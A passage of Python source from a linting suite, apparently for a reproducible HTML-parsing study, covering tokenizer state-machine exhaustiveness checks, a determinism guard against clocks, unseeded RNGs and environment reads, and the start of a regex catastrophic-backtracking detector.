  per-character branch for the new delimiter is a lint error: the run
  pattern would stop at a character the state then silently drops.

The bytes-domain tokenizer (``repro/html/bytes_tokenizer.py``) re-chunks
the same states over raw UTF-8, which adds a cross-file family of
invariants (emitted from :meth:`finish`, since the break-set declaration
lives in ``tokenizer.py`` while the bytes patterns live in their own
module):

* **single source of truth** — the ``_bytes_scanner`` factory must
  derive its patterns from ``CHUNK_BREAK_SETS`` (it references the
  imported dict), and every ``_bytes_scanner("...")`` call names a
  declared state;
* **full bytes coverage** — every declared state is either compiled by
  ``_bytes_scanner`` or folded into the module's combined ``_MASTER``
  pattern, whose leading text-run class ``([^...]*+)`` is parsed and
  compared character-for-character against that state's declared break
  set (widening a break set without updating the master class is a lint
  error, not a silent divergence);
* **override lock-step** — every ``Tokenizer`` subclass that re-chunks
  states (``ReferenceTokenizer``, ``BytesTokenizer``) must define
  exactly the declared state set: the static twin of the tier-1
  ``BYTES_OVERRIDES == REFERENCE_OVERRIDES == set(CHUNK_BREAK_SETS)``
  assertion;
* **bytes handlers handle their breaks** — run-pattern reference and
  break-character coverage run against the bytes handlers too, with
  byte-literal (``b"<"``) and small-int (``0x3C``) spellings counted as
  handling the corresponding character.

Limitations (documented, suppressible): classes with explicit base
classes are skipped by the unreachable/dangling checks — their handlers
may be referenced by (or inherited from) a base defined in another
module, which a single-file AST pass cannot resolve.  The
``ReferenceTokenizer`` per-character twin and ``BytesTokenizer`` are the
such classes today; their lock-step with the fast path is enforced here
structurally and at runtime by the tier-1 equivalence test
(``REFERENCE_OVERRIDES == set(CHUNK_BREAK_SETS)``) plus the
``fastpath`` / ``bytes_parity`` fuzz oracles.  Break-character coverage
is lexical: an integer constant below 128 in a handler body counts as
handling ``chr(value)`` even when it is used for something else.
"""
from __future__ import annotations

import ast
import re

from ..engine import LintPass, SourceFile, literal_str

PASS_ID = "state-machine"

#: naming conventions that mark a method as a state handler
HANDLER_PATTERNS: tuple[re.Pattern[str], ...] = (
    re.compile(r"\A_\w+_state\Z"),   # tokenizer states
    re.compile(r"\A_mode_\w+\Z"),    # tree-builder insertion modes
)

#: a class is treated as a state machine once it has this many handlers
MIN_HANDLERS = 3

#: the tokenizer's chunked-state declaration and its pattern factory
BREAK_SETS_NAME = "CHUNK_BREAK_SETS"
SCANNER_NAME = "_scanner"

#: the bytes-domain twin factory and the combined data-state pattern
BYTES_SCANNER_NAME = "_bytes_scanner"
MASTER_NAME = "_MASTER"

#: regex escape spellings the master-class parser understands
_CLASS_ESCAPES = {
    "t": "\t", "n": "\n", "r": "\r", "f": "\f", "v": "\v", "0": "\0",
    "\\": "\\", "]": "]", "^": "^", "-": "-", "&": "&", "<": "<",
}


def _parse_class_chars(content: str) -> set[str] | None:
    """The character set of a regex class body (no ranges), else None."""
    chars: set[str] = set()
    index = 0
    while index < len(content):
        char = content[index]
        if char == "\\":
            index += 1
            if index >= len(content):
                return None
            escape = content[index]
            if escape == "x":
                if index + 2 >= len(content):
                    return None
                chars.add(chr(int(content[index + 1:index + 3], 16)))
                index += 3
                continue
            if escape not in _CLASS_ESCAPES:
                return None
            chars.add(_CLASS_ESCAPES[escape])
            index += 1
            continue
        if char == "-" and 0 < index < len(content) - 1:
            return None  # a range: out of this parser's contract
        chars.add(char)
        index += 1
    return chars


def _matching(pattern: re.Pattern[str], names: set[str]) -> set[str]:
    return {name for name in names if pattern.match(name)}


def _printable(char: str) -> str:
    """A break character as it should appear in a lint message."""
    return repr(char)


class StateMachinePass(LintPass):
    id = PASS_ID
    name = "Parser state-machine exhaustiveness"
    description = (
        "tokenizer/tree-builder handler tables have no unreachable "
        "states, no dangling transitions, cover every declared content "
        "model, and chunked fast-path states handle every declared "
        "break character; bytes-domain run patterns derive from the same "
        "CHUNK_BREAK_SETS declaration and the reference/bytes override "
        "sets stay in lock-step with it"
    )

    def __init__(self) -> None:
        super().__init__()
        #: the one module declaring CHUNK_BREAK_SETS: (file, sets, node)
        self._truth: tuple[SourceFile, dict[str, str], ast.Dict] | None = None
        #: modules compiling bytes run patterns, keyed by file.rel
        self._bytes_modules: list[dict] = []
        #: Tokenizer subclasses that re-chunk states (reference + bytes)
        self._twin_classes: list[dict] = []

    def select(self, file: SourceFile) -> bool:
        return "html" in file.parts[:-1]

    # ----------------------------------------------------------- module level

    def visit_Module(self, file: SourceFile, node: ast.Module) -> None:
        self._collect_bytes_module(file, node)
        break_sets, dict_node = self._break_set_declaration(node)
        if break_sets is None or dict_node is None:
            return
        self._truth = (file, break_sets, dict_node)

        handlers = {
            statement.name
            for cls in node.body
            if isinstance(cls, ast.ClassDef)
            for statement in cls.body
            if isinstance(statement, (ast.FunctionDef, ast.AsyncFunctionDef))
        }
        for state in sorted(set(break_sets) - handlers):
            self.report(
                file, dict_node,
                f"{BREAK_SETS_NAME} declares a break set for {state}, which "
                "is not a defined state handler in this module",
                fix_hint="remove the entry or define the handler",
            )

        compiled: set[str] = set()
        for sub in ast.walk(node):
            if not (
                isinstance(sub, ast.Call)
                and isinstance(sub.func, ast.Name)
                and sub.func.id == SCANNER_NAME
            ):
                continue
            state = literal_str(sub.args[0]) if sub.args else None
            if state is None:
                self.report(
                    file, sub,
                    f"{SCANNER_NAME}(...) must be called with a literal "
                    f"{BREAK_SETS_NAME} key",
                    fix_hint="pass the state name as a string literal",
                )
                continue
            if state not in break_sets:
                self.report(
                    file, sub,
                    f"{SCANNER_NAME}({state!r}) compiles a run pattern for "
                    f"a state with no {BREAK_SETS_NAME} entry",
                    fix_hint=f"declare the state in {BREAK_SETS_NAME}",
                )
                continue
            compiled.add(state)
        for state in sorted(set(break_sets) - compiled):
            self.report(
                file, dict_node,
                f"{BREAK_SETS_NAME} entry {state} is never compiled by "
                f"{SCANNER_NAME}() (declared break set is unused)",
                fix_hint="compile a run pattern from it or drop the entry",
            )

    # ------------------------------------------------------ bytes-domain twin

    @staticmethod
    def _imports_break_sets(tree: ast.Module) -> bool:
        return any(
            isinstance(statement, ast.ImportFrom)
            and any(alias.name == BREAK_SETS_NAME for alias in statement.names)
            for statement in tree.body
        )

    def _collect_bytes_module(self, file: SourceFile, node: ast.Module) -> None:
        """Record a module compiling bytes run patterns for :meth:`finish`."""
        calls = [
            sub
            for sub in ast.walk(node)
            if isinstance(sub, ast.Call)
            and isinstance(sub.func, ast.Name)
            and sub.func.id == BYTES_SCANNER_NAME
        ]
        if not calls:
            return
        compiled: dict[str, ast.Call] = {}
        for call in calls:
            state = literal_str(call.args[0]) if call.args else None
            if state is None:
                self.report(
                    file, call,
                    f"{BYTES_SCANNER_NAME}(...) must be called with a "
                    f"literal {BREAK_SETS_NAME} key",
                    fix_hint="pass the state name as a string literal",
                )
                continue
            compiled[state] = call
        factory = next(
            (
                statement
                for statement in node.body
                if isinstance(statement, (ast.FunctionDef, ast.AsyncFunctionDef))
                and statement.name == BYTES_SCANNER_NAME
            ),
            None,
        )
        if factory is not None and not any(
            isinstance(sub, ast.Name) and sub.id == BREAK_SETS_NAME
            for sub in ast.walk(factory)
        ):
            self.report(
                file, factory,
                f"{BYTES_SCANNER_NAME} does not derive its patterns from "
                f"{BREAK_SETS_NAME} (a second source of truth for break sets)",
                fix_hint=f"compile the pattern from {BREAK_SETS_NAME}[state]",
            )
        master_chars, master_node = self._master_class_chars(node)
        self._bytes_modules.append({
            "file": file,
            "tree": node,
            "compiled": compiled,
            "run_names": self._run_pattern_names(node, BYTES_SCANNER_NAME),
            "master_chars": master_chars,
            "master_node": master_node,
        })

    @staticmethod
    def _master_class_chars(
        tree: ast.Module,
    ) -> tuple[set[str] | None, ast.AST | None]:
        """The character set of ``_MASTER``'s leading ``([^...]*+)`` text-run
        class, parsed from its bytes-literal pattern (None when the module
        has no such constant or the prefix has another shape)."""
        for statement in tree.body:
            if not isinstance(statement, ast.Assign):
                continue
            if not any(
                isinstance(target, ast.Name) and target.id == MASTER_NAME
                for target in statement.targets
            ):
                continue
            value = statement.value
            if not (
                isinstance(value, ast.Call)
                and value.args
                and isinstance(value.args[0], ast.Constant)
                and isinstance(value.args[0].value, bytes)
            ):
                return None, statement
            pattern = value.args[0].value.decode("latin-1")
            if not pattern.startswith("([^"):
                return None, statement
            index = 3
            while index < len(pattern) and pattern[index] != "]":
                index += 2 if pattern[index] == "\\" else 1
            if index >= len(pattern):
                return None, statement
            return _parse_class_chars(pattern[3:index]), statement
        return None, None

    def finish(self) -> None:
        if self._truth is None:
            return
        _truth_file, break_sets, _dict_node = self._truth
        declared = set(break_sets)

        for module in self._bytes_modules:
            file = module["file"]
            compiled: dict[str, ast.Call] = module["compiled"]
            for state, call in sorted(compiled.items()):
                if state not in declared:
                    self.report(
                        file, call,
                        f"{BYTES_SCANNER_NAME}({state!r}) compiles a run "
                        f"pattern for a state with no {BREAK_SETS_NAME} entry",
                        fix_hint=f"declare the state in {BREAK_SETS_NAME}",
                    )
            master_chars = module["master_chars"]
            master_node = module["master_node"]
            master_covered = {
                state
                for state in declared
                if master_chars is not None
                and master_chars == set(break_sets[state])
            }
            for state in sorted(declared - set(compiled) - master_covered):
                self.report(
                    file, master_node or module["tree"],
                    f"declared chunked state {state} has no bytes run "
                    f"pattern: neither compiled by {BYTES_SCANNER_NAME} nor "
                    f"folded into {MASTER_NAME}'s text-run class",
                    fix_hint=f"compile it with {BYTES_SCANNER_NAME} or "
                    f"match {MASTER_NAME}'s class to its break set",
                )
            module_strings = self._module_string_constants(module["tree"])
            run_names: dict[str, str] = module["run_names"]
            for twin in self._twin_classes:
                if twin["file"] is not file:
                    continue
                methods = twin["methods"]
                class_name = twin["node"].name
                for state in sorted(declared):
                    handler = methods.get(state)
                    if handler is None:
                        continue  # the lock-step check reports the absence
                    reachable = self._reachable_strings(
                        handler, methods, module_strings
                    )
                    run_name = run_names.get(state)
                    if run_name is not None:
                        # a state with its own compiled pattern must use it,
                        # even when its break set coincides with the master
                        # class (e.g. rcdata shares the data-state set)
                        if run_name not in reachable.names:
                            self.report(
                                file, handler,
                                f"bytes chunked state {class_name}.{state} "
                                f"never references its run pattern "
                                f"{run_name} (scans with the wrong pattern "
                                "or not at all)",
                                fix_hint=f"scan with {run_name} or "
                                "undeclare the state",
                            )
                    elif state in master_covered:
                        if MASTER_NAME not in reachable.names:
                            self.report(
                                file, handler,
                                f"bytes chunked state {class_name}.{state} "
                                f"never references {MASTER_NAME} (scans with "
                                "the wrong pattern or not at all)",
                                fix_hint=f"scan with {MASTER_NAME} or compile "
                                f"a {BYTES_SCANNER_NAME} pattern for it",
                            )
                    handled = "".join(reachable.strings)
                    for char in break_sets[state]:
                        if char not in handled:
                            self.report(
                                file, handler,
                                f"bytes chunked state {class_name}.{state} "
                                f"declares break character {_printable(char)} "
                                "but no reachable branch handles it "
                                "(silently dropped delimiter)",
                                fix_hint="add the per-character branch or "
                                f"narrow the {BREAK_SETS_NAME} entry",
                            )

        # override lock-step: the static twin of the tier-1 assertion
        # BYTES_OVERRIDES == REFERENCE_OVERRIDES == set(CHUNK_BREAK_SETS)
        for twin in self._twin_classes:
            class_name = twin["node"].name
            states: set[str] = twin["states"]
            for name in sorted(declared - states):
                self.report(
                    twin["file"], twin["node"],
                    f"{class_name} does not re-implement declared chunked "
                    f"state {name} (it silently falls back to the inherited "
                    "per-character loop)",
                    fix_hint="define the handler or narrow "
                    f"{BREAK_SETS_NAME}",
                )
            for name in sorted(states - declared):
                self.report(
                    twin["file"], twin["methods"][name],
                    f"{class_name}.{name} re-chunks a state with no "
                    f"{BREAK_SETS_NAME} entry (unverified override)",
                    fix_hint=f"declare the state in {BREAK_SETS_NAME} or "
                    "drop the override",
                )

    @staticmethod
    def _break_set_declaration(
        tree: ast.Module,
    ) -> tuple[dict[str, str] | None, ast.Dict | None]:
        """The module's ``CHUNK_BREAK_SETS`` literal, if it declares one."""
        for statement in tree.body:
            if isinstance(statement, ast.AnnAssign):
                targets = [statement.target]
                value = statement.value
            elif isinstance(statement, ast.Assign):
                targets = list(statement.targets)
                value = statement.value
            else:
                continue
            if not any(
                isinstance(target, ast.Name) and target.id == BREAK_SETS_NAME
                for target in targets
            ):
                continue
            if not isinstance(value, ast.Dict):
                return None, None
            declared: dict[str, str] = {}
            for key, entry in zip(value.keys, value.values):
                state = literal_str(key)
                breaks = literal_str(entry)
                if state is None or breaks is None:
                    return None, None
                declared[state] = breaks
            return declared, value
        return None, None

    # ------------------------------------------------------------ class level

    def visit_ClassDef(self, file: SourceFile, node: ast.ClassDef) -> None:
        methods = {
            statement.name: statement
            for statement in node.body
            if isinstance(statement, (ast.FunctionDef, ast.AsyncFunctionDef))
        }
        has_base = any(
            not (isinstance(base, ast.Name) and base.id == "object")
            for base in node.bases
        )
        if has_base and self._imports_break_sets(file.tree):
            # a Tokenizer subclass re-chunking states in a module that
            # imports the break-set declaration: the reference and bytes
            # twins, held in lock-step with the declaration by finish()
            states = _matching(HANDLER_PATTERNS[0], set(methods))
            if len(states) >= MIN_HANDLERS:
                self._twin_classes.append({
                    "file": file,
                    "node": node,
                    "methods": methods,
                    "states": states,
                })
        self_refs: dict[str, ast.Attribute] = {}
        stored: set[str] = set()
        for sub in ast.walk(node):
            if (
                isinstance(sub, ast.Attribute)
                and isinstance(sub.value, ast.Name)
                and sub.value.id == "self"
            ):
                self_refs.setdefault(sub.attr, sub)
                if isinstance(sub.ctx, ast.Store):
                    # an instance *variable* (e.g. the tokenizer's
                    # ``self._return_state`` holding a state), not a handler
                    stored.add(sub.attr)

        if not has_base:
            # with a base class, handlers may override states reached via
            # base-class transitions, and transitions may target inherited
            # handlers — neither resolvable from this file's AST alone
            for pattern in HANDLER_PATTERNS:
                defined = _matching(pattern, set(methods))
                if len(defined) < MIN_HANDLERS:
                    continue
                referenced = _matching(pattern, set(self_refs))
                for name in sorted(defined - referenced):
                    self.report(
                        file, methods[name],
                        f"state handler {node.name}.{name} is defined but "
                        "never referenced (unreachable state)",
                        fix_hint="wire a transition to it or delete it",
                    )
                for name in sorted(referenced - defined - stored):
                    self.report(
                        file, self_refs[name],
                        f"transition references undefined handler "
                        f"self.{name} in {node.name}",
                        fix_hint="define the handler or fix the transition name",
                    )

        self._check_dispatch_dicts(file, node, methods)
        self._check_break_sets(file, node, methods)

    # ------------------------------------------------- chunked-state coverage

    def _check_break_sets(
        self,
        file: SourceFile,
        node: ast.ClassDef,
        methods: dict[str, ast.AST],
    ) -> None:
        break_sets, _ = self._break_set_declaration(file.tree)
        if not break_sets:
            return
        run_names = self._run_pattern_names(file.tree)
        module_strings = self._module_string_constants(file.tree)
        for state, breaks in sorted(break_sets.items()):
            handler = methods.get(state)
            if handler is None:
                continue  # declared-but-undefined is reported at module level
            reachable = self._reachable_strings(handler, methods, module_strings)
            run_name = run_names.get(state)
            if run_name is not None and run_name not in reachable.names:
                self.report(
                    file, handler,
                    f"chunked state {node.name}.{state} never references its "
                    f"run pattern {run_name} (scans with the wrong pattern "
                    "or not at all)",
                    fix_hint=f"scan with {run_name} or undeclare the state",
                )
            handled = "".join(reachable.strings)
            for char in breaks:
                if char not in handled:
                    self.report(
                        file, handler,
                        f"chunked state {node.name}.{state} declares break "
                        f"character {_printable(char)} but no reachable "
                        "branch handles it (silently dropped delimiter)",
                        fix_hint="add the per-character branch or narrow "
                        f"the {BREAK_SETS_NAME} entry",
                    )

    class _Reachable:
        __slots__ = ("strings", "names")

        def __init__(self) -> None:
            self.strings: list[str] = []
            self.names: set[str] = set()

    def _reachable_strings(
        self,
        handler: ast.AST,
        methods: dict[str, ast.AST],
        module_strings: dict[str, str],
    ) -> "StateMachinePass._Reachable":
        """String literals visible from ``handler``: its own body, helper
        methods it calls on ``self`` (one hop), and module string constants
        either body references by name."""
        reachable = self._Reachable()
        bodies: list[ast.AST] = [handler]
        for sub in ast.walk(handler):
            if (
                isinstance(sub, ast.Call)
                and isinstance(sub.func, ast.Attribute)
                and isinstance(sub.func.value, ast.Name)
                and sub.func.value.id == "self"
                and sub.func.attr in methods
            ):
                helper = methods[sub.func.attr]
                if helper is not handler:
                    bodies.append(helper)
        for body in bodies:
            for sub in ast.walk(body):
                if isinstance(sub, ast.Constant):
                    value = sub.value
                    if isinstance(value, str):
                        reachable.strings.append(value)
                    elif isinstance(value, bytes):
                        # bytes handlers spell delimiters as byte literals
                        reachable.strings.append(value.decode("latin-1"))
                    elif (
                        isinstance(value, int)
                        and not isinstance(value, bool)
                        and 0 <= value < 128
                    ):
                        # ... or as small ints (``byte == 0x3C``); lexical,
                        # so any sub-128 int counts (documented limitation)
                        reachable.strings.append(chr(value))
                elif isinstance(sub, ast.Name):
                    reachable.names.add(sub.id)
                    constant = module_strings.get(sub.id)
                    if constant is not None:
                        reachable.strings.append(constant)
        return reachable

    @staticmethod
    def _run_pattern_names(
        tree: ast.Module, scanner_name: str = SCANNER_NAME
    ) -> dict[str, str]:
        """Map declared state -> module constant holding its run pattern
        (``_RUN_DATA = _scanner("_data_state")`` -> ``{"_data_state":
        "_RUN_DATA"}``)."""
        names: dict[str, str] = {}
        for statement in tree.body:
            if not isinstance(statement, ast.Assign):
                continue
            value = statement.value
            if not (
                isinstance(value, ast.Call)
                and isinstance(value.func, ast.Name)
                and value.func.id == scanner_name
                and value.args
            ):
                continue
            state = literal_str(value.args[0])
            if state is None:
                continue
            for target in statement.targets:
                if isinstance(target, ast.Name):
                    names[state] = target.id
        return names

    @staticmethod
    def _module_string_constants(tree: ast.Module) -> dict[str, str]:
        constants: dict[str, str] = {}
        for statement in tree.body:
            if not isinstance(statement, ast.Assign):
                continue
            value = literal_str(statement.value)
            if value is None and isinstance(statement.value, ast.Constant):
                raw = statement.value.value
                if isinstance(raw, bytes):  # bytes twins of _WHITESPACE etc.
                    value = raw.decode("latin-1")
            if value is None:
                continue
            for target in statement.targets:
                if isinstance(target, ast.Name):
                    constants[target.id] = value
        return constants

    def _check_dispatch_dicts(
        self,
        file: SourceFile,
        node: ast.ClassDef,
        methods: dict[str, ast.AST],
    ) -> None:
        declared = self._declared_content_models(file.tree)
        if not declared:
            return
        for method in methods.values():
            for sub in ast.walk(method):
                if not isinstance(sub, ast.Dict) or not sub.values:
                    continue
                if not all(
                    isinstance(value, ast.Attribute)
                    and isinstance(value.value, ast.Name)
                    and value.value.id == "self"
                    and any(p.match(value.attr) for p in HANDLER_PATTERNS)
                    for value in sub.values
                ):
                    continue
                keys = {
                    key.id for key in sub.keys if isinstance(key, ast.Name)
                }
                for name in sorted(declared - keys):
                    self.report(
                        file, sub,
                        f"declared content-model state {name} has no entry "
                        "in the dispatch table",
                        fix_hint="add the state to the switch_to table",
                    )

    @staticmethod
    def _declared_content_models(tree: ast.Module) -> set[str]:
        declared: set[str] = set()
        for statement in tree.body:
            if not isinstance(statement, ast.Assign):
                continue
            if not (
                isinstance(statement.value, ast.Constant)
                and isinstance(statement.value.value, str)
            ):
                continue
            for target in statement.targets:
                if (
                    isinstance(target, ast.Name)
                    and target.id.isupper()
                    and not target.id.startswith("_")
                ):
                    declared.add(target.id)
        return declared
