"""Determinism pass: the reproducibility guard.

The study's claim to reproducibility (and the whole longitudinal design —
eight yearly snapshots that must be comparable) rests on every pipeline
decision being a pure function of ``StudyConfig.seed``.  The codebase
enforces this by idiom: every random draw goes through a
``random.Random(f"{seed}:...")`` instance keyed on the seed plus a stable
label, timestamps come from the corpus plan rather than the wall clock,
and environment variables are read only at the configuration boundary
(``repro/study.py``), never deep inside a stage.

The fuzz harness (``repro/fuzz/``) extends the same contract: "same seed,
same buckets" only holds if every draw threads an explicit
``random.Random(seed)`` — a bare ``random.Random()`` seeds itself from
the OS and silently breaks replay, so it is flagged alongside the
module-level RNG.

This pass turns the idiom into an invariant over ``analysis/``,
``pipeline/``, ``commoncrawl/`` and ``fuzz/``:

* **wall clock** — ``time.time()``/``time_ns``/``localtime``/``gmtime``/
  ``ctime`` and ``datetime.now()``/``utcnow``/``today`` make output depend
  on when the run happened;
* **shared global RNG** — module-level ``random.random()`` etc. draw from
  interpreter-global state that other code (or a process pool's import
  order) perturbs; ``random.Random(seed)`` instances are fine, as are
  ``numpy.random.default_rng(seed)`` generators (the legacy
  ``np.random.*`` global functions are flagged);
* **unseeded instance RNG** — a no-argument ``random.Random()`` seeds
  itself from OS entropy, so two runs with the same ``StudyConfig.seed``
  (or the same ``repro-study fuzz --seed``) diverge;
* **ambient configuration** — ``os.environ`` / ``os.getenv`` reads outside
  config modules let the environment silently change results; thread
  values through ``StudyConfig`` instead;
* **completion-order consumption** — ``concurrent.futures.as_completed``
  inside ``pipeline/`` yields results in whatever order the OS scheduler
  finishes them, which is exactly the nondeterminism the reorder buffer
  (``pipeline/reorder.py``, the one exempt module) exists to contain;
  store-order code must go through :func:`repro.pipeline.reorder.streamed_map`.

Modules whose stem is in :data:`EXEMPT_MODULES` (configuration
boundaries) are skipped entirely.
"""
from __future__ import annotations

import ast

from ..engine import LintPass, SourceFile, attribute_chain
from ..findings import Severity

PASS_ID = "determinism"

#: directories (any path component) the reproducibility guard covers
GUARDED_DIRS = frozenset(
    {"analysis", "pipeline", "commoncrawl", "fuzz", "incremental"}
)

#: module stems allowed to read ambient state (configuration boundaries)
EXEMPT_MODULES = frozenset({"config", "settings"})

_CLOCK_CALLS = frozenset({"time", "time_ns", "localtime", "gmtime", "ctime"})
_DATETIME_CALLS = frozenset({"now", "utcnow", "today"})
_SEEDED_RANDOM_ATTRS = frozenset({"Random", "SystemRandom"})
_SEEDED_NUMPY_ATTRS = frozenset({"default_rng", "Generator", "SeedSequence"})

#: the one pipeline module allowed to consume completion order — it is
#: the reorder buffer, whose whole job is turning that order back into
#: submission order
REORDER_MODULE = "reorder"


class DeterminismPass(LintPass):
    id = PASS_ID
    name = "Reproducibility guard"
    description = (
        "no wall-clock reads, unseeded RNGs (global draws or bare "
        "random.Random()), or os.environ access in analysis/, pipeline/, "
        "commoncrawl/ and fuzz/"
    )

    def select(self, file: SourceFile) -> bool:
        return (
            any(part in GUARDED_DIRS for part in file.parts[:-1])
            and file.module_name not in EXEMPT_MODULES
        )

    def visit_Call(self, file: SourceFile, node: ast.Call) -> None:
        chain = attribute_chain(node.func)
        if chain and chain[-1] == "as_completed":
            # matches the bare import (`as_completed(...)`) and every
            # dotted spelling (`futures.as_completed`,
            # `concurrent.futures.as_completed`)
            self._check_as_completed(file, node)
            return
        if len(chain) < 2:
            return
        if chain[0] == "time" and chain[1] in _CLOCK_CALLS and len(chain) == 2:
            self.report(
                file, node,
                f"wall-clock read time.{chain[1]}() is not reproducible",
                fix_hint="take timestamps from the corpus plan / caller",
            )
        elif chain[-1] in _DATETIME_CALLS and chain[-2] in ("datetime", "date"):
            self.report(
                file, node,
                f"wall-clock read {'.'.join(chain)}() is not reproducible",
                fix_hint="derive dates from the snapshot year / StudyConfig",
            )
        elif chain == ("os", "getenv"):
            self.report(
                file, node,
                "os.getenv() read outside a config module",
                fix_hint="thread the value through StudyConfig",
            )
        elif chain[0] == "random" and len(chain) == 2:
            if chain[1] not in _SEEDED_RANDOM_ATTRS:
                self.report(
                    file, node,
                    f"random.{chain[1]}() draws from the shared global RNG",
                    fix_hint="use a random.Random(f\"{seed}:...\") instance",
                )
            elif chain[1] == "Random" and not node.args:
                self.report(
                    file, node,
                    "random.Random() without a seed argument draws its "
                    "state from OS entropy",
                    fix_hint="pass an explicit seed: "
                    "random.Random(f\"{seed}:...\")",
                )
        elif len(chain) >= 3 and chain[-2] == "random":
            # numpy-style module RNG: np.random.<fn>(...)
            if chain[-1] not in _SEEDED_NUMPY_ATTRS:
                self.report(
                    file, node,
                    f"{'.'.join(chain)}() draws from the legacy global "
                    "numpy RNG",
                    fix_hint="use numpy.random.default_rng(seed)",
                )

    def _check_as_completed(self, file: SourceFile, node: ast.Call) -> None:
        if "pipeline" not in file.parts[:-1]:
            return
        if file.module_name == REORDER_MODULE:
            return
        self.report(
            file, node,
            "as_completed() yields results in completion order — "
            "nondeterministic under pipeline/'s store-order contract",
            fix_hint="drive the pool through "
            "repro.pipeline.reorder.streamed_map (or buffer through "
            "ReorderBuffer) so results are consumed in submission order",
        )

    def visit_Attribute(self, file: SourceFile, node: ast.Attribute) -> None:
        if (
            node.attr == "environ"
            and isinstance(node.value, ast.Name)
            and node.value.id == "os"
        ):
            self.report(
                file, node,
                "os.environ access outside a config module",
                fix_hint="read the environment only at the StudyConfig "
                "boundary (repro/study.py)",
            )
