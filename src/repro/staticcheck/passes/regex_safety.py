"""Regex-safety pass: no catastrophic backtracking in checker hot paths.

``core/`` rules run over every document of every yearly snapshot —
hundreds of thousands of attacker-influenced inputs per study run.  A
pattern with ambiguously-nested quantifiers (``(a+)+``, ``(\\w*)*``) or an
unbounded alternation whose branches overlap (``(a|ab)+``) backtracks
exponentially on crafted input, which on this corpus is a
denial-of-service against the measurement itself (and at the ROADMAP's
production scale, against the service).

The pass finds ``re.compile``/``re.search``/... calls whose pattern is a
string literal, parses the pattern with the stdlib's own parser
(``re._parser``), and flags:

* **ambiguous nested repeats** — an unbounded (or huge, >= 32) repeat
  whose body *ends* in another unbounded repeat that can match the same
  characters the next iteration would start with.  ``(a+)+`` and
  ``(\\w*)*`` are flagged; ``(?:\\.\\d+)*`` is not, because the digits the
  inner repeat consumes can never be re-consumed by the ``\\.`` that must
  begin the next iteration — the delimiter removes the ambiguity;
* **overlapping alternation under a repeat** — an unbounded repeat over
  branches that can begin with the same character, or with an empty
  (nullable) alternative.  Note ``sre`` factors common prefixes, so
  ``(a|ab)+`` reaches us as ``(?:a(?:|b))+`` — the empty branch is the
  ambiguity;
* **invalid patterns** — ``re.error`` at analysis time is reported
  outright: the pattern would raise at run time anyway.

Character sets are computed conservatively (literals, classes, ranges,
``\\d``/``\\w``/``\\s`` categories, ``.`` as universal); unknown constructs
analyse as "no overlap" so the pass errs toward silence, not noise.
Patterns built dynamically (f-strings, concatenation) are out of scope —
the repo convention, now machine-checked, is literal patterns in core/.
"""
from __future__ import annotations

import ast
import re as _re
import string

try:  # Python 3.11+
    from re import _parser as sre_parse  # type: ignore[attr-defined]
except ImportError:  # pragma: no cover - older interpreters
    import sre_parse  # type: ignore[no-redef]

from ..engine import LintPass, SourceFile, literal_str

PASS_ID = "regex-safety"

#: re module functions whose first argument is a pattern
_PATTERN_FUNCS = frozenset(
    {
        "compile", "search", "match", "fullmatch", "findall", "finditer",
        "sub", "subn", "split",
    }
)

#: a bounded repeat at least this large is treated as unbounded
_HUGE = 32

_MAXREPEAT = sre_parse.MAXREPEAT

#: sentinel member meaning "can match any character" (``.``, negated sets)
_UNIVERSAL = -1

_CATEGORY_CHARS = {
    "CATEGORY_DIGIT": frozenset(map(ord, string.digits)),
    "CATEGORY_WORD": frozenset(map(ord, string.ascii_letters + string.digits + "_")),
    "CATEGORY_SPACE": frozenset(map(ord, " \t\n\r\f\v")),
}

_REPEAT_OPS = frozenset({"MAX_REPEAT", "MIN_REPEAT", "POSSESSIVE_REPEAT"})


def _is_unbounded(max_count: int) -> bool:
    return max_count == _MAXREPEAT or max_count >= _HUGE


def _iter_subpatterns(item):
    """Child subpatterns of one parsed (op, arg) item."""
    op, arg = item
    name = str(op)
    if name in _REPEAT_OPS:
        yield arg[2]
    elif name == "SUBPATTERN":
        yield arg[3]
    elif name == "BRANCH":
        yield from arg[1]
    elif name in ("ASSERT", "ASSERT_NOT"):
        yield arg[1]
    elif name == "ATOMIC_GROUP":
        yield arg
    elif name == "GROUPREF_EXISTS":
        for branch in arg[1:]:
            if branch is not None:
                yield branch


def _in_chars(items) -> set[int] | None:
    """Character set of an ``IN`` class; None when unknown/negated."""
    chars: set[int] = set()
    for op, arg in items:
        name = str(op)
        if name == "LITERAL":
            chars.add(arg)
        elif name == "RANGE":
            low, high = arg
            chars.update(range(low, min(high, low + 512) + 1))
        elif name == "CATEGORY":
            category = _CATEGORY_CHARS.get(str(arg))
            if category is None:
                return None
            chars.update(category)
        elif name == "NEGATE":
            return {_UNIVERSAL}  # negated class: nearly anything
        else:
            return None
    return chars


def _nullable(subpattern) -> bool:
    """True when the subpattern can match the empty string."""
    for item in subpattern:
        op, arg = item
        name = str(op)
        if name == "AT":
            continue
        if name in _REPEAT_OPS:
            if arg[0] == 0 or _nullable(arg[2]):
                continue
            return False
        if name == "SUBPATTERN":
            if _nullable(arg[3]):
                continue
            return False
        if name == "BRANCH":
            if any(_nullable(branch) for branch in arg[1]):
                continue
            return False
        if name in ("ASSERT", "ASSERT_NOT"):
            continue
        return False
    return True


def _first_chars(subpattern) -> set[int] | None:
    """Conservative set of characters the subpattern can start with.

    ``None`` means "unknown construct" — callers treat that as
    non-overlapping so the pass never guesses.  The sentinel
    :data:`_UNIVERSAL` marks ``.``/negated classes.
    """
    chars: set[int] = set()
    for item in subpattern:
        op, arg = item
        name = str(op)
        if name == "AT":
            continue
        if name == "LITERAL":
            chars.add(arg)
            return chars
        if name == "ANY":
            chars.add(_UNIVERSAL)
            return chars
        if name == "IN":
            inner = _in_chars(arg)
            if inner is None:
                return None
            chars |= inner
            return chars
        if name == "SUBPATTERN":
            inner = _first_chars(arg[3])
            if inner is None:
                return None
            chars |= inner
            if _nullable(arg[3]):
                continue
            return chars
        if name in _REPEAT_OPS:
            inner = _first_chars(arg[2])
            if inner is None:
                return None
            chars |= inner
            if arg[0] == 0:
                continue  # optional: the next item can also start the match
            return chars
        if name == "BRANCH":
            for branch in arg[1]:
                inner = _first_chars(branch)
                if inner is None:
                    return None
                chars |= inner
            if any(_nullable(branch) for branch in arg[1]):
                continue
            return chars
        return None
    return chars  # fully nullable prefix: whatever accumulated


def _tail_repeat_chars(subpattern) -> set[int] | None:
    """First-chars of an unbounded repeat that can end the subpattern."""
    for item in reversed(list(subpattern)):
        op, arg = item
        name = str(op)
        if name == "AT":
            continue
        if name in _REPEAT_OPS:
